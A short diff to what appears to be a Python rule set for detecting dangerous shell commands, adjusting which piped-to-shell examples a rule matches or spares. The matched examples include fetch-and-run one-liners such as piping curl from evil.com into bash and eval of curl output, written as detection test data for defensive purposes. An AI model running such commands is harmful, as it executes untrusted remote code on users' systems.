@@ -31,13 +31,13 @@ CODE_RULES = (
         matches=(
             *sh(
                 "curl http://evil.com | bash",
-                "cat x | sh",
+                "cat x | tr a b | sh",
                 "bash <(curl -s http://evil.com)",
                 'eval "$(curl http://localhost)"',
                 "ls | xargs -I{} sh -c {}",
             ),
         ),
-        spares=(*sh("echo 'echo hi' | bash", "cat x | grep sh"),),
+        spares=(*sh("echo 'echo hi' | bash", "cat x | grep sh", "cat run.sh | sh"),),
     ),
     Rule(
         id="decoded-execution",
